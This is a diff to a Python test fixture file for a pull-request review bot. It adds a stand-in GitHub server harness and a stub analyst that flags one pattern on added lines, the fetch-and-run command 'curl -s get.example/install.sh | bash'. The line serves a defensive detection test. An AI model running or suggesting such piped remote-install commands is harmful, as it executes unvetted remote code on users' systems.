@@ -1,12 +1,23 @@
 """A server that answers from a script, for what a well-behaved GitHub never does; and a clock that never really waits."""
 
-from collections.abc import AsyncIterator, Awaitable, Callable
+import time
+import tomllib
+from collections.abc import AsyncIterator, Awaitable, Callable, Sequence
 from dataclasses import dataclass, field
+from pathlib import Path
 
 import pytest
 from aiohttp import ClientSession, web
 
+from bot.core.language_table import parse
+from bot.core.languages import Languages
 from bot.github.client import Client, Wire
+from bot.github.forge import GitHubForge
+from bot.model import Cause, Hit, Job, Outcome, Pull, Scan, Source
+from bot.review import review
+from bot.sandbox.repository import Pull as StandInPull
+from bot.sandbox.server import StandIn
+from tests.nouns import rule, rulebook
 
 Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]
 
@@ -113,3 +124,73 @@ def wire(script: Script, session: ClientSession, clock: Clock, counts: list[tupl
 @pytest.fixture
 def client(wire: Wire) -> Client:
     return Client(wire, Anybody(), installation=7)
+
+
+# --- the stand-in GitHub, and the whole story against it -------------------------------------------------------------------
+
+PIPED = "curl -s get.example/install.sh | bash"
+
+
+class Reader:
+    """An analyst that finds one thing, on added lines."""
+
+    async def scan(self, sources: Sequence[Source]) -> Scan:
+        hits = []
+        for source in sources:
+            for number, text in enumerate(source.text.split("\n"), 1):
+                if PIPED in text and number in source.lines.added:
+                    hits.append(
+                        Hit("fetch-pipe-shell", source.path, number, number, PIPED, {"HOST": "get.example"}, text.strip())
+                    )
+        return Scan(tuple(hits))
+
+
+def languages() -> Languages:
+    table = Path(__file__).parents[2] / "rules" / "languages.toml"
+    return parse(tomllib.loads(table.read_text("utf-8")))
+
+
+class House:
+    """The product against the stand-in: `look` is one run of the story, as a job would do it."""
+
+    def __init__(self, github: StandIn, session: ClientSession, clock: Clock) -> None:
+        self.github, self.clock = github, clock
+        self.counts: list[tuple[str, int]] = []
+        self.forge = GitHubForge(
+            session,
+            api_url=github.url,
+            graphql_url=github.graphql_url,
+            issuer=github.app.client_id,
+            app_id=github.app.id,
+            private_key=github.app.private_key,
+            sleep=clock.sleep,
+            now=clock.now,
+            counted=lambda operation, status: self.counts.append((operation, status)),
+        )
+        self.rulebook = rulebook(rule())
+        self.languages = languages()
+
+    def job(self, pull: StandInPull, head: str | None = "now") -> Job:
+        repository = pull.repository
+        installation = self.github.world.installation_of(repository.owner.login)
+        assert installation is not None
+        name = Pull(installation.id, repository.id, repository.owner.login, repository.name, pull.number)
+        return Job("delivery-1", name, Cause.PUSHED, pull.head_sha if head == "now" else head)
+
+    async def look(self, pull: StandInPull, job: Job | None = None) -> Outcome:
+        return await review(job or self.job(pull), self.forge, Reader(), self.rulebook, self.languages)
+
+    def operations(self) -> list[str]:
+        """What was asked of GitHub since the journal was cleared, in order, the minting of tokens aside."""
+        return [exchange.operation.replace("/repos/{owner}/{repo}", "") for exchange in self.github.journal.calls]
+
+
+@pytest.fixture
+async def github() -> AsyncIterator[StandIn]:
+    async with StandIn() as standin:
+        yield standin
+
+
+@pytest.fixture
+def house(github: StandIn, session: ClientSession) -> House:
+    return House(github, session, Clock(time.time()))
